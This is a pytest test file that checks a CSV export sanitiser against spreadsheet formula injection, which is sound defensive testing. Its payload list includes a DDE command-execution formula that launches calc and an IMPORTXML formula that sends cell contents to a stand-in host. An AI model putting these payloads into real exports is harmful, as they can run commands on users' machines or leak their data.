"""Can anything that somebody wrote be run by a spreadsheet that opens what we give out?"""

from __future__ import annotations

import csv
import io

import pytest

from cases.reporting.lines import as_csv, harmless

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\")", "\t=1", "\r=1",
    "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "-2+3+cmd|' /C calc'!D2", "+44 20 7946 0000",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_could_be_a_formula_is_words(payload: str) -> None:
    assert harmless(payload) == f"'{payload}"
    (line,) = csv.reader(io.StringIO(as_csv([("a", payload)]).decode("utf-8-sig"), newline=""))
    assert line == ["a", f"'{payload}"]


@pytest.mark.parametrize("kept", ["plain words", "1 = 1", "", "O’Brien", "1", "a\nb", "kept back"])
def test_plain_words_stay_as_they_are(kept: str) -> None:
    assert harmless(kept) == kept


def test_a_number_stays_a_number() -> None:
    assert harmless(-3) == "-3"


def test_words_with_quotation_marks_and_lines_stay_in_their_cell() -> None:
    words = 'she said "no",\n=1+1; and left'
    (line,) = csv.reader(io.StringIO(as_csv([(words, "b")]).decode("utf-8-sig"), newline=""))
    assert line == [words, "b"]
